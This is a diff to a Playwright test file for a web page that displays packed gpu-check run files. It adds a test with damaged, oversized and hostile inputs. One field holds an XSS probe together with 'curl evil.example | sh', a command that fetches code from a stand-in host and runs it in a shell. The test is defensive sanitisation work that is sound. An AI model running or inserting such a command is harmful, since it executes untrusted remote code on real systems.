@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import gzip
 import json
 import pickle
+import sys
 from base64 import b64encode
+from pathlib import Path
 
 import contract_page
 import pytest
@@ -18,6 +21,10 @@ from helpers.yours import is_my_number_good
 from helpers.yours.printing import printed
 from helpers.yours.published import published
 from website.widgets import widget_files
+
+sys.path.append(str(Path(__file__).parents[1] / "yours"))
+
+from made_runs import made_run
 
 MS, TIMES = 200, 5  # the most that a verdict may take; a ceiling of a test is five times the figure
 RUNS = [run for run in published() if len(run.points) > 1]
@@ -101,6 +108,7 @@ def test_everything_on_one_page(open_alone, folder):
     pasted_texts(page)
     chosen_files(page)
     packed_traces(page)
+    whole_runs(page)
     too_much(page)
     the_machine(page)
     times = page.evaluate(
@@ -164,6 +172,33 @@ def packed_traces(page: Page) -> None:
     found = is_my_number_good([path.read_bytes() for path in paths])
     expect(sentence(page)).to_have_text(found.sentence)
     expect(page.locator(".bim-causes li").first).to_contain_text("Rank 2 came last in 4 of 4 collectives")
+
+
+def whole_runs(page: Page) -> None:
+    """What gpu-check packed, of eight GPUs and of one where checks failed; with hostile words; damaged; and unfolding into gigabytes."""
+    hostile = made_run("H100", 1, failed=("ranks start",))
+    hostile["records"]["gpu-check"]["data"]["ranks start"]["why"] = (
+        "<img src=x onerror=alert(1)>; curl evil.example | sh"
+    )
+    for number, run in enumerate((made_run(), hostile)):
+        text = gzip.compress(json.dumps(run).encode())
+        page.evaluate(PACKED, [b64encode(text).decode(), "run-8xh200.json.gz"])
+        found = is_my_number_good(text)
+        expect(sentence(page)).to_have_text(found.sentence)
+        expect(page.locator(".bim-causes li")).to_have_count(len(found.causes))
+        expect(page.locator(".bim-curves")).to_have_count(1 - number)
+        rows = page.locator(".bim-scroll tbody tr")  # "Line by line" is open
+        expect(rows).to_have_count(len(found.points) or len(found.lines))
+        expect(page.locator(".bim-beside")).to_contain_text("".join(found.lines))
+    assert page.locator(".bim-yours img").count() == 0 and "evil" in page.locator(".bim-causes p").first.inner_text()
+    assert "evil" not in page.locator(".bim-command code").first.inner_text()
+    for spoiled, words in (
+        (text[:-20], "run.json.gz is packed by gzip and damaged"),
+        (gzip.compress(b"{" + b" " * 2**27), "this page reads 24 MiB at once at most"),
+        (gzip.compress(b'{"records": 3}'), "no run of gpu-check: expected an object with 'records'"),
+    ):
+        page.evaluate(PACKED, [b64encode(spoiled).decode(), "run.json.gz"])
+        expect(sentence(page)).to_contain_text(f"Not read: {words}" if "gzip" in words else words)
 
 
 def too_much(page: Page) -> None:
